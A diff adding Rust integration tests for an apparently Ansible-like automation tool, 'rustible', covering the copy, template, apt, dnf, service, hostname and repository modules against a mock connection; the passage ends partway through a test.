@@ -15,11 +15,15 @@ mod common;
 
 use common::MockConnection;
 use rustible::connection::CommandResult;
+use rustible::connection::{Connection, RemoteTmp, RemoteTmpConnection};
 use rustible::modules::{
-    command::CommandModule, copy::CopyModule, file::FileModule, package::PackageModule,
-    service::ServiceModule, shell::ShellModule, template::TemplateModule, user::UserModule, Diff,
-    Module, ModuleClassification, ModuleContext, ModuleError, ModuleOutput, ModuleParams,
-    ModuleRegistry, ModuleStatus, ParallelizationHint, ParamExt,
+    apt::AptModule, apt_repository::AptRepositoryModule, authorized_key::AuthorizedKeyModule,
+    command::CommandModule, copy::CopyModule, dnf::DnfModule, file::FileModule,
+    hostname::HostnameModule, package::PackageModule, replace::ReplaceModule, script::ScriptModule,
+    service::ServiceModule, service_facts::ServiceFactsModule, shell::ShellModule,
+    template::TemplateModule, user::UserModule, yum_repository::YumRepositoryModule, Diff, Module,
+    ModuleClassification, ModuleContext, ModuleError, ModuleOutput, ModuleParams, ModuleRegistry,
+    ModuleStatus, ParallelizationHint, ParamExt,
 };
 use std::collections::HashMap;
 use std::fs;
@@ -50,6 +54,28 @@ fn test_registry_with_builtins() {
     assert!(registry.contains("user"));
 }
 
+#[test]
+fn test_registry_resolves_ansible_builtin_names() {
+    let registry = ModuleRegistry::with_builtins();
+    assert_eq!(registry.resolve_name("ansible.builtin.debug"), "debug");
+    assert_eq!(
+        registry.get("ansible.builtin.debug").unwrap().name(),
+        "debug"
+    );
+
+    let mut params = HashMap::new();
+    params.insert("msg".to_string(), serde_json::json!("hello"));
+    let context = ModuleContext::default();
+    let short = registry.execute("debug", &params, &context).unwrap();
+    let fqcn = registry
+        .execute("ansible.builtin.debug", &params, &context)
+        .unwrap();
+
+    assert_eq!(fqcn.changed, short.changed);
+    assert_eq!(fqcn.msg, short.msg);
+    assert_eq!(fqcn.data, short.data);
+}
+
 #[test]
 fn test_registry_default_has_builtins() {
     let registry = ModuleRegistry::default();
@@ -632,6 +658,32 @@ fn test_command_with_argv() {
     assert!(result.stdout.unwrap().contains("hello world"));
 }
 
+#[test]
+fn test_command_argv_keeps_spaces_in_arguments() {
+    let temp = TempDir::new().unwrap();
+    let mut params = HashMap::new();
+    params.insert(
+        "argv".to_string(),
+        serde_json::json!(["touch", "a file.txt"]),
+    );
+    params.insert(
+        "chdir".to_string(),
+        serde_json::json!(temp.path().to_str().unwrap()),
+    );
+
+    // Through a connection, the argv is not re-parsed by a shell
+    let connection = std::sync::Arc::new(rustible::connection::local::LocalConnection::new());
+    let context = ModuleContext::default().with_connection(connection);
+    let result = CommandModule.execute(&params, &context).unwrap();
+    assert!(result.changed);
+
+    let names: Vec<String> = fs::read_dir(temp.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(names, vec!["a file.txt".to_string()]);
+}
+
 #[test]
 fn test_command_check_mode() {
     let module = CommandModule;
@@ -767,6 +819,29 @@ fn test_shell_with_stdin() {
     assert!(result.stdout.unwrap().contains("test input"));
 }
 
+#[test]
+fn test_shell_warns_about_package_commands() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    let context = ModuleContext::default().with_connection(mock.clone());
+    let mut params = HashMap::new();
+    params.insert(
+        "cmd".to_string(),
+        serde_json::json!("apt-get install nginx"),
+    );
+
+    let result = ShellModule.execute(&params, &context).unwrap();
+
+    // The warning does not change the outcome
+    assert!(result.changed);
+    assert_eq!(result.warnings.len(), 1);
+    assert!(result.warnings[0].contains("apt module"));
+
+    params.insert("warn".to_string(), serde_json::json!(false));
+    let result = ShellModule.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    assert!(result.warnings.is_empty());
+}
+
 #[test]
 fn test_shell_missing_cmd() {
     let module = ShellModule;
@@ -865,7 +940,7 @@ fn test_copy_check_mode() {
     let result = module.check(&params, &context).unwrap();
 
     assert!(result.changed);
-    assert!(result.msg.contains("Would copy"));
+    assert!(result.msg.contains("Would create"));
     assert!(!dest.exists());
 }
 
@@ -933,6 +1008,214 @@ fn test_copy_diff_mode() {
     assert_eq!(diff.after, "new content");
 }
 
+#[tokio::test(flavor = "multi_thread")]
+async fn test_copy_remote_directory_dest_resolves_final_path() {
+    let temp = TempDir::new().unwrap();
+    let src = temp.path().join("app.conf");
+    fs::write(&src, "listen 8080\n").unwrap();
+
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.add_virtual_file("/etc/app/README", "existing");
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert("src".to_string(), serde_json::json!(src.to_str().unwrap()));
+    params.insert("dest".to_string(), serde_json::json!("/etc/app"));
+
+    let run = |params: HashMap<String, serde_json::Value>, context: ModuleContext| {
+        tokio::task::spawn_blocking(move || CopyModule.execute(&params, &context))
+    };
+
+    let result = run(params.clone(), context.clone()).await.unwrap().unwrap();
+    assert!(result.changed);
+    assert_eq!(mock_file(&mock, "/etc/app/app.conf").await, "listen 8080\n");
+
+    // Re-running compares against /etc/app/app.conf and reports no change
+    let result = run(params, context).await.unwrap().unwrap();
+    assert!(!result.changed);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_copy_reports_transfer_stats() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    let context = ModuleContext::default().with_connection(mock.clone());
+    let content = "server_name example.com;\n".repeat(40);
+
+    let mut params = HashMap::new();
+    params.insert("content".to_string(), serde_json::json!(content));
+    params.insert("dest".to_string(), serde_json::json!("/etc/app/app.conf"));
+
+    let result = tokio::task::spawn_blocking(move || CopyModule.execute(&params, &context))
+        .await
+        .unwrap()
+        .unwrap();
+
+    assert!(result.changed);
+    let stats = &result.data["transfer_stats"];
+    assert_eq!(stats["bytes"], serde_json::json!(content.len()));
+    assert!(stats["duration_ms"].as_f64().unwrap() >= 0.0);
+    assert!(stats["bytes_per_sec"].as_u64().unwrap() > 0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_copy_unsafe_writes_falls_back_when_rename_fails() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_supports_atomic_rename(true);
+    mock.add_virtual_file("/etc/app/app.conf", "old");
+    // Moving the staged temp file into place fails, as on a bind mount
+    mock.set_default_result(CommandResult::failure(
+        1,
+        String::new(),
+        "mv: cannot move: Device or resource busy".to_string(),
+    ));
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert("content".to_string(), serde_json::json!("new"));
+    params.insert("dest".to_string(), serde_json::json!("/etc/app/app.conf"));
+
+    let run = |params: HashMap<String, serde_json::Value>, context: ModuleContext| {
+        tokio::task::spawn_blocking(move || CopyModule.execute(&params, &context))
+    };
+
+    // Without unsafe_writes the failed rename is an error
+    let err = run(params.clone(), context.clone()).await.unwrap();
+    assert!(err.is_err());
+    assert_eq!(mock_file(&mock, "/etc/app/app.conf").await, "old");
+
+    params.insert("unsafe_writes".to_string(), serde_json::json!(true));
+    let result = run(params, context).await.unwrap().unwrap();
+    assert!(result.changed);
+    assert_eq!(mock_file(&mock, "/etc/app/app.conf").await, "new");
+    assert_eq!(result.warnings.len(), 1);
+    assert!(result.warnings[0].contains("unsafe_writes"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_copy_restores_selinux_context_when_enforcing() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.add_virtual_file("/etc/app/app.conf", "old");
+    mock.set_command_result(
+        "stat -c %C /etc/app/app.conf",
+        CommandResult::success("system_u:object_r:etc_t:s0\n".to_string(), String::new()),
+    );
+    let mut facts = HashMap::new();
+    facts.insert(
+        "selinux".to_string(),
+        serde_json::json!({"status": "enabled", "mode": "enforcing"}),
+    );
+    let enforcing = ModuleContext::default()
+        .with_connection(mock.clone())
+        .with_facts(facts);
+
+    let run = |dest: &str, context: ModuleContext| {
+        let mut params = HashMap::new();
+        params.insert("content".to_string(), serde_json::json!("new"));
+        params.insert("dest".to_string(), serde_json::json!(dest));
+        tokio::task::spawn_blocking(move || CopyModule.execute(&params, &context))
+    };
+
+    // A replaced file keeps the context it had
+    let result = run("/etc/app/app.conf", enforcing.clone())
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(result.changed);
+    assert!(mock
+        .get_commands()
+        .contains(&"chcon system_u:object_r:etc_t:s0 /etc/app/app.conf".to_string()));
+
+    // A new file gets the policy default
+    run("/etc/app/new.conf", enforcing).await.unwrap().unwrap();
+    assert!(mock
+        .get_commands()
+        .contains(&"restorecon /etc/app/new.conf".to_string()));
+
+    // Nothing is touched when the host does not report SELinux enforcing
+    mock.reset();
+    let plain = ModuleContext::default().with_connection(mock.clone());
+    run("/etc/app/other.conf", plain).await.unwrap().unwrap();
+    assert!(!mock
+        .get_commands()
+        .iter()
+        .any(|c| c.starts_with("chcon") || c.starts_with("restorecon")));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_copy_resolves_owner_by_name_on_target() {
+    let mock = std::sync::Arc::new(MockConnection::new("getent-host"));
+    mock.set_command_result(
+        "getent passwd deploy",
+        CommandResult::success(
+            "deploy:x:1001:1001::/home/deploy:/bin/bash\n".to_string(),
+            String::new(),
+        ),
+    );
+    mock.set_command_result(
+        "getent passwd ghost",
+        CommandResult::failure(2, String::new(), String::new()),
+    );
+    // Connections from ConnectionFactory carry the id cache in this wrapper
+    let connect = || {
+        let conn: std::sync::Arc<dyn Connection + Send + Sync> = std::sync::Arc::new(
+            RemoteTmpConnection::new(mock.clone(), RemoteTmp::new("run")),
+        );
+        ModuleContext::default().with_connection(conn)
+    };
+    let context = connect();
+
+    let run = |dest: &str, owner: &str, context: &ModuleContext| {
+        let mut params = HashMap::new();
+        params.insert("content".to_string(), serde_json::json!("data"));
+        params.insert("dest".to_string(), serde_json::json!(dest));
+        params.insert("owner".to_string(), serde_json::json!(owner));
+        let context = context.clone();
+        tokio::task::spawn_blocking(move || CopyModule.execute(&params, &context))
+    };
+
+    run("/srv/app/a.conf", "deploy", &context)
+        .await
+        .unwrap()
+        .unwrap();
+    run("/srv/app/b.conf", "deploy", &context)
+        .await
+        .unwrap()
+        .unwrap();
+    let owners: Vec<Option<String>> = mock
+        .get_upload_options()
+        .into_iter()
+        .map(|(_, options)| options.owner)
+        .collect();
+    assert_eq!(owners, vec![Some("1001".to_string()); 2]);
+
+    // The lookup is cached for the connection, and a new connection looks
+    // the name up again
+    let lookups = || {
+        mock.get_commands()
+            .iter()
+            .filter(|c| c.starts_with("getent passwd deploy"))
+            .count()
+    };
+    assert_eq!(lookups(), 1);
+    run("/srv/app/d.conf", "deploy", &connect())
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(lookups(), 2);
+
+    let err = run("/srv/app/c.conf", "ghost", &context)
+        .await
+        .unwrap()
+        .unwrap_err();
+    assert!(
+        err.to_string()
+            .contains("User 'ghost' does not exist on getent-host"),
+        "{}",
+        err
+    );
+    assert!(!mock.virtual_file_exists(std::path::Path::new("/srv/app/c.conf")));
+}
+
 // ============================================================================
 // File Module Tests
 // ============================================================================
@@ -1153,6 +1436,53 @@ fn test_template_with_loops() {
     assert_eq!(fs::read_to_string(&dest).unwrap(), "one\ntwo\nthree\n");
 }
 
+#[test]
+fn test_template_first_found_src() {
+    let temp = TempDir::new().unwrap();
+    let templates = temp.path().join("templates");
+    fs::create_dir(&templates).unwrap();
+    fs::write(
+        templates.join("ntp.conf.Debian.j2"),
+        "server {{ ntp_server }}\n",
+    )
+    .unwrap();
+    fs::write(templates.join("ntp.conf.j2"), "default\n").unwrap();
+    let dest = temp.path().join("ntp.conf");
+
+    let module = TemplateModule;
+    let mut params = HashMap::new();
+    params.insert(
+        "src".to_string(),
+        serde_json::json!(["ntp.conf.Ubuntu.j2", "ntp.conf.Debian.j2", "ntp.conf.j2"]),
+    );
+    params.insert(
+        "dest".to_string(),
+        serde_json::json!(dest.to_str().unwrap()),
+    );
+
+    let mut vars = HashMap::new();
+    vars.insert("ntp_server".to_string(), serde_json::json!("pool.ntp.org"));
+    let context = ModuleContext::default()
+        .with_vars(vars)
+        .with_work_dir(temp.path().to_str().unwrap());
+
+    let result = module.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    assert_eq!(fs::read_to_string(&dest).unwrap(), "server pool.ntp.org");
+
+    // No candidate exists: every one is listed in the error
+    params.insert(
+        "src".to_string(),
+        serde_json::json!(["missing-a.j2", "missing-b.j2"]),
+    );
+    let err = module.execute(&params, &context).unwrap_err();
+    assert!(
+        err.to_string().contains("missing-a.j2, missing-b.j2"),
+        "{}",
+        err
+    );
+}
+
 #[test]
 fn test_template_idempotent() {
     let temp = TempDir::new().unwrap();
@@ -1204,7 +1534,7 @@ fn test_template_check_mode() {
     let result = module.check(&params, &context).unwrap();
 
     assert!(result.changed);
-    assert!(result.msg.contains("Would render"));
+    assert!(result.msg.contains("Would create"));
     assert!(!dest.exists());
 }
 
@@ -1265,6 +1595,168 @@ fn test_package_missing_name() {
     assert!(result.is_err());
 }
 
+/// Mock a host where nginx is installed at `installed` and apt offers `candidate`
+fn apt_latest_mock(installed: &str, candidate: &str) -> std::sync::Arc<MockConnection> {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_command_result(
+        "dpkg-query -W -f='${Version}' nginx 2>/dev/null",
+        CommandResult::success(installed.to_string(), String::new()),
+    );
+    mock.set_command_result(
+        "apt-cache policy nginx 2>/dev/null | grep 'Candidate:' | awk '{print $2}'",
+        CommandResult::success(format!("{}\n", candidate), String::new()),
+    );
+    mock
+}
+
+fn apt_latest_params() -> ModuleParams {
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("nginx"));
+    params.insert("state".to_string(), serde_json::json!("latest"));
+    params
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_apt_latest_unchanged_when_candidate_is_installed() {
+    let mock = apt_latest_mock("1.18.0-6", "1.18.0-6");
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let result = AptModule.execute(&apt_latest_params(), &context).unwrap();
+
+    assert!(!result.changed);
+    assert!(result.diff.is_none());
+    assert!(
+        !mock.get_commands().iter().any(|c| c.contains("apt-get")),
+        "no upgrade should run: {:?}",
+        mock.get_commands()
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_apt_latest_records_version_transition() {
+    let mock = apt_latest_mock("1.18.0-6", "1.18.0-7");
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let result = AptModule.execute(&apt_latest_params(), &context).unwrap();
+
+    assert!(result.changed);
+    assert_eq!(
+        result.data["versions"]["nginx"],
+        serde_json::json!({ "before": "1.18.0-6", "after": "1.18.0-7" })
+    );
+    let diff = result.diff.unwrap();
+    assert_eq!(diff.before, "nginx: 1.18.0-6");
+    assert_eq!(diff.after, "nginx: 1.18.0-7");
+    assert!(mock
+        .get_commands()
+        .iter()
+        .any(|c| c.contains("apt-get install") && c.ends_with("nginx")));
+
+    // Check mode reports the same transition without upgrading
+    let mock = apt_latest_mock("1.18.0-6", "1.18.0-7");
+    let context = ModuleContext::default()
+        .with_check_mode(true)
+        .with_connection(mock.clone());
+    let result = AptModule.execute(&apt_latest_params(), &context).unwrap();
+    assert!(result.changed);
+    assert_eq!(
+        result.data["versions"]["nginx"]["after"],
+        serde_json::json!("1.18.0-7")
+    );
+    assert!(!mock.get_commands().iter().any(|c| c.contains("apt-get")));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_apt_check_mode_diff_lists_only_missing_packages() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    // Only nginx is installed
+    mock.set_default_result(CommandResult::failure(1, String::new(), String::new()));
+    mock.set_command_result(
+        "dpkg -s nginx 2>/dev/null | grep -q '^Status:.*installed'",
+        CommandResult::success(String::new(), String::new()),
+    );
+    let context = ModuleContext::default()
+        .with_check_mode(true)
+        .with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!(["nginx", "curl"]));
+    params.insert("state".to_string(), serde_json::json!("present"));
+    let result = AptModule.execute(&params, &context).unwrap();
+
+    assert!(result.changed);
+    assert_eq!(
+        result.data["package_changes"],
+        serde_json::json!({ "install": ["curl"], "remove": [], "upgrade": [] })
+    );
+    let diff = result.diff.unwrap();
+    assert_eq!(diff.before, "nginx");
+    assert_eq!(diff.after, "curl\nnginx");
+    assert!(!mock.get_commands().iter().any(|c| c.contains("apt-get")));
+}
+
+const DNF_GROUP_LIST: &str =
+    "dnf group list --installed --ids 2>/dev/null || dnf group list --installed 2>/dev/null";
+
+fn dnf_group_params() -> ModuleParams {
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("@Development Tools"));
+    params
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_dnf_group_install_is_idempotent() {
+    // Not installed yet: the group is installed by name
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_command_result(
+        DNF_GROUP_LIST,
+        CommandResult::success("Installed Groups:\n".to_string(), String::new()),
+    );
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let result = DnfModule.execute(&dnf_group_params(), &context).unwrap();
+
+    assert!(result.changed);
+    assert!(
+        mock.get_commands()
+            .contains(&"dnf group install -y 'Development Tools'".to_string()),
+        "{:?}",
+        mock.get_commands()
+    );
+
+    // Already installed: nothing to do
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_command_result(
+        DNF_GROUP_LIST,
+        CommandResult::success(
+            "Installed Groups:\n   Development Tools (development)\n".to_string(),
+            String::new(),
+        ),
+    );
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let result = DnfModule.execute(&dnf_group_params(), &context).unwrap();
+
+    assert!(!result.changed);
+    assert!(!mock
+        .get_commands()
+        .iter()
+        .any(|c| c.contains("group install")));
+}
+
+#[test]
+fn test_dnf_rejects_invalid_group_name() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    let context = ModuleContext::default().with_connection(mock.clone());
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("@"));
+
+    let result = DnfModule.execute(&params, &context);
+
+    assert!(matches!(result, Err(ModuleError::InvalidParameter(_))));
+    assert!(mock.get_commands().is_empty());
+}
+
 // ============================================================================
 // Service Module Tests (basic validation)
 // ============================================================================
@@ -1586,37 +2078,152 @@ async fn test_service_enabled_already_enabled() {
 }
 
 #[tokio::test]
-async fn test_service_state_restarted() {
-    let module = ServiceModule;
+async fn test_service_enabled_diff_only_when_enablement_changes() {
     let mock = std::sync::Arc::new(MockConnection::new("test-host"));
-
-    // Mock systemctl restart to succeed
-    mock.set_command_result(
-        "systemctl restart postgresql",
-        CommandResult::success(String::new(), String::new()),
-    );
-
-    // Mock the detection commands
     mock.set_command_result(
         "test -d /run/systemd/system && echo yes || echo no",
         CommandResult::success("yes".to_string(), String::new()),
     );
-
-    // Mock systemctl is-active (needed for state parsing)
     mock.set_command_result(
-        "systemctl is-active postgresql",
-        CommandResult::success("active".to_string(), String::new()),
+        "systemctl is-enabled nginx",
+        CommandResult::success("enabled\n".to_string(), String::new()),
+    );
+    mock.set_command_result(
+        "systemctl is-enabled cron",
+        CommandResult::failure(1, "disabled\n".to_string(), String::new()),
     );
 
-    let mut params = HashMap::new();
-    params.insert("name".to_string(), serde_json::json!("postgresql"));
-    params.insert("state".to_string(), serde_json::json!("restarted"));
+    let context = ModuleContext::default()
+        .with_connection(mock.clone())
+        .with_diff_mode(true);
+    let enable = |name: &str| {
+        let mut params = HashMap::new();
+        params.insert("name".to_string(), serde_json::json!(name));
+        params.insert("enabled".to_string(), serde_json::json!(true));
+        params
+    };
 
-    let context = ModuleContext::default().with_connection(mock.clone());
-    let result = module.execute(&params, &context).unwrap();
+    // Already enabled: nothing to do and nothing to diff
+    let result = ServiceModule.execute(&enable("nginx"), &context).unwrap();
+    assert!(!result.changed);
+    assert!(result.diff.is_none());
+    assert!(!mock
+        .get_commands()
+        .iter()
+        .any(|c| c.contains("systemctl enable")));
 
+    // Disabled: enabling it is a change with an enablement diff line
+    let result = ServiceModule.execute(&enable("cron"), &context).unwrap();
     assert!(result.changed);
-    assert_eq!(result.status, ModuleStatus::Changed);
+    let diff = result.diff.unwrap();
+    assert_eq!(diff.before, "enabled: false");
+    assert_eq!(diff.after, "enabled: true");
+    assert_eq!(diff.details.as_deref(), Some("enabled: false -> true"));
+    assert!(mock
+        .get_commands()
+        .iter()
+        .any(|c| c.contains("systemctl enable cron")));
+}
+
+#[tokio::test]
+async fn test_service_user_scope_exports_runtime_dir_for_become_user() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_command_result(
+        "test -d /run/systemd/system && echo yes || echo no",
+        CommandResult::success("yes".to_string(), String::new()),
+    );
+    mock.set_command_result(
+        "id -u",
+        CommandResult::success("1001\n".to_string(), String::new()),
+    );
+    let user_systemctl = "env XDG_RUNTIME_DIR=/run/user/1001 \
+        DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1001/bus systemctl --user";
+    mock.set_command_result(
+        format!("{} is-active syncthing", user_systemctl),
+        CommandResult::failure(3, "inactive\n".to_string(), String::new()),
+    );
+
+    let mut context = ModuleContext::default().with_connection(mock.clone());
+    context.r#become = true;
+    context.become_user = Some("deploy".to_string());
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("syncthing"));
+    params.insert("state".to_string(), serde_json::json!("started"));
+    params.insert("scope".to_string(), serde_json::json!("user"));
+
+    let result = ServiceModule.execute(&params, &context).unwrap();
+    assert!(result.changed);
+
+    let executed = mock.get_execute_options();
+    let become_user = |command: &str| {
+        executed
+            .iter()
+            .find(|(c, _)| c == command)
+            .filter(|(_, o)| o.escalate)
+            .and_then(|(_, o)| o.escalate_user.clone())
+    };
+    // The uid comes from the become user, not the connecting user
+    assert_eq!(become_user("id -u").as_deref(), Some("deploy"));
+    assert_eq!(
+        become_user(&format!("{} start syncthing", user_systemctl)).as_deref(),
+        Some("deploy")
+    );
+    let commands = mock.get_commands();
+    assert!(!commands
+        .iter()
+        .any(|c| c.contains("systemctl start") && !c.contains("--user")));
+}
+
+#[tokio::test]
+async fn test_service_global_scope_rejects_state() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_command_result(
+        "test -d /run/systemd/system && echo yes || echo no",
+        CommandResult::success("yes".to_string(), String::new()),
+    );
+    let context = ModuleContext::default().with_connection(mock);
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("syncthing"));
+    params.insert("state".to_string(), serde_json::json!("started"));
+    params.insert("scope".to_string(), serde_json::json!("global"));
+
+    assert!(ServiceModule.execute(&params, &context).is_err());
+}
+
+#[tokio::test]
+async fn test_service_state_restarted() {
+    let module = ServiceModule;
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+
+    // Mock systemctl restart to succeed
+    mock.set_command_result(
+        "systemctl restart postgresql",
+        CommandResult::success(String::new(), String::new()),
+    );
+
+    // Mock the detection commands
+    mock.set_command_result(
+        "test -d /run/systemd/system && echo yes || echo no",
+        CommandResult::success("yes".to_string(), String::new()),
+    );
+
+    // Mock systemctl is-active (needed for state parsing)
+    mock.set_command_result(
+        "systemctl is-active postgresql",
+        CommandResult::success("active".to_string(), String::new()),
+    );
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("postgresql"));
+    params.insert("state".to_string(), serde_json::json!("restarted"));
+
+    let context = ModuleContext::default().with_connection(mock.clone());
+    let result = module.execute(&params, &context).unwrap();
+
+    assert!(result.changed);
+    assert_eq!(result.status, ModuleStatus::Changed);
     assert!(result.msg.contains("Restarted"));
 
     // Verify the commands were executed
@@ -1935,6 +2542,349 @@ async fn test_service_with_status_data() {
     assert_eq!(status["enabled"], serde_json::json!(true));
 }
 
+#[tokio::test]
+async fn test_service_facts_lists_systemd_services() {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_command_result(
+        "test -d /run/systemd/system && echo yes || echo no",
+        CommandResult::success("yes".to_string(), String::new()),
+    );
+    mock.set_command_result(
+        "systemctl list-units --type=service --all --no-pager --no-legend --plain",
+        CommandResult::success(
+            "nginx.service loaded active running A high performance web server\n\
+             ssh.service   loaded inactive dead  OpenBSD Secure Shell server\n"
+                .to_string(),
+            String::new(),
+        ),
+    );
+    mock.set_command_result(
+        "systemctl list-unit-files --type=service --no-pager --no-legend --plain",
+        CommandResult::success(
+            "nginx.service enabled enabled\nssh.service disabled enabled\n".to_string(),
+            String::new(),
+        ),
+    );
+
+    let context = ModuleContext::default().with_connection(mock.clone());
+    let result = ServiceFactsModule
+        .execute(&HashMap::new(), &context)
+        .unwrap();
+
+    assert!(!result.changed);
+    let services = &result.data["ansible_facts"]["services"];
+    assert_eq!(services.as_object().unwrap().len(), 2);
+    assert_eq!(services["nginx.service"]["state"], "running");
+    assert_eq!(services["nginx.service"]["status"], "enabled");
+    assert_eq!(services["ssh.service"]["state"], "stopped");
+    assert_eq!(services["ssh.service"]["status"], "disabled");
+    assert_eq!(services["ssh.service"]["source"], "systemd");
+}
+
+// ============================================================================
+// Hostname Module Tests - Mocked hostnamectl
+// ============================================================================
+
+/// Mock connection reporting the given `hostnamectl status` output
+fn hostnamectl_mock(status: &str) -> std::sync::Arc<MockConnection> {
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.set_command_result(
+        "hostnamectl status",
+        CommandResult::success(status.to_string(), String::new()),
+    );
+    mock
+}
+
+fn systemd_context(mock: std::sync::Arc<MockConnection>) -> ModuleContext {
+    let mut facts = HashMap::new();
+    facts.insert(
+        "ansible_service_mgr".to_string(),
+        serde_json::json!("systemd"),
+    );
+    ModuleContext::default()
+        .with_facts(facts)
+        .with_connection(mock)
+}
+
+#[tokio::test]
+async fn test_hostname_change_produces_diff() {
+    let module = HostnameModule;
+    let mock = hostnamectl_mock(
+        "   Static hostname: old-host\n         Icon name: computer-vm\n  Operating System: Debian\n",
+    );
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("web01"));
+
+    let context = systemd_context(mock.clone())
+        .with_check_mode(true)
+        .with_diff_mode(true);
+    let result = module.execute(&params, &context).unwrap();
+
+    assert!(result.changed);
+    let diff = result.diff.expect("hostname change should produce a diff");
+    assert!(diff.before.contains("hostname: old-host"));
+    assert!(diff.before.contains("persistent_hostname: old-host"));
+    assert!(diff.after.contains("hostname: web01"));
+    assert!(diff.after.contains("persistent_hostname: web01"));
+
+    // Check mode must not touch the host
+    assert!(!mock
+        .get_commands()
+        .iter()
+        .any(|c| c.contains("set-hostname")));
+}
+
+#[tokio::test]
+async fn test_hostname_pretty_change_produces_diff() {
+    let module = HostnameModule;
+    let mock = hostnamectl_mock(
+        "   Static hostname: web01\n   Pretty hostname: Old Box\n         Icon name: computer-vm\n",
+    );
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("web01"));
+    params.insert(
+        "pretty_hostname".to_string(),
+        serde_json::json!("Web Server 01"),
+    );
+
+    let context = systemd_context(mock)
+        .with_check_mode(true)
+        .with_diff_mode(true);
+    let result = module.execute(&params, &context).unwrap();
+
+    assert!(result.changed);
+    let diff = result
+        .diff
+        .expect("pretty hostname change should produce a diff");
+    assert!(diff.before.contains("pretty_hostname: Old Box"));
+    assert!(diff.after.contains("pretty_hostname: Web Server 01"));
+    assert!(diff.after.contains("hostname: web01"));
+}
+
+#[tokio::test]
+async fn test_hostname_persistent_mismatch_is_changed() {
+    let module = HostnameModule;
+    // Running name is already correct but the static name is not
+    let mock = hostnamectl_mock(
+        "   Static hostname: localhost\nTransient hostname: web01\n         Icon name: computer-vm\n",
+    );
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("web01"));
+
+    let context = systemd_context(mock).with_check_mode(true);
+    let result = module.execute(&params, &context).unwrap();
+
+    assert!(result.changed);
+}
+
+#[tokio::test]
+async fn test_hostname_matching_name_is_unchanged() {
+    let module = HostnameModule;
+    let mock = hostnamectl_mock("   Static hostname: web01\n         Icon name: computer-vm\n");
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("web01"));
+
+    let context = systemd_context(mock.clone()).with_diff_mode(true);
+    let result = module.execute(&params, &context).unwrap();
+
+    assert!(!result.changed);
+    assert_eq!(result.status, ModuleStatus::Ok);
+    assert!(result.diff.is_none());
+    assert_eq!(mock.get_commands(), vec!["hostnamectl status".to_string()]);
+}
+
+// ============================================================================
+// Repository Module Tests - Mocked filesystem
+// ============================================================================
+
+/// Read a file written to the mock connection's virtual filesystem
+async fn mock_file(mock: &MockConnection, path: &str) -> String {
+    String::from_utf8(
+        mock.download_content(std::path::Path::new(path))
+            .await
+            .unwrap(),
+    )
+    .unwrap()
+}
+
+#[tokio::test]
+async fn test_apt_repository_adds_entry_idempotently() {
+    let module = AptRepositoryModule;
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    let context = ModuleContext::default()
+        .with_diff_mode(true)
+        .with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert(
+        "repo".to_string(),
+        serde_json::json!("deb [signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/ubuntu jammy stable"),
+    );
+    params.insert("filename".to_string(), serde_json::json!("docker"));
+
+    let result = module.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    assert_eq!(
+        mock_file(&mock, "/etc/apt/sources.list.d/docker.list").await,
+        "deb [signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/ubuntu jammy stable\n"
+    );
+    let diff = result
+        .diff
+        .expect("adding a repository should produce a diff");
+    assert_eq!(diff.before, "");
+    assert!(diff.after.contains("download.docker.com"));
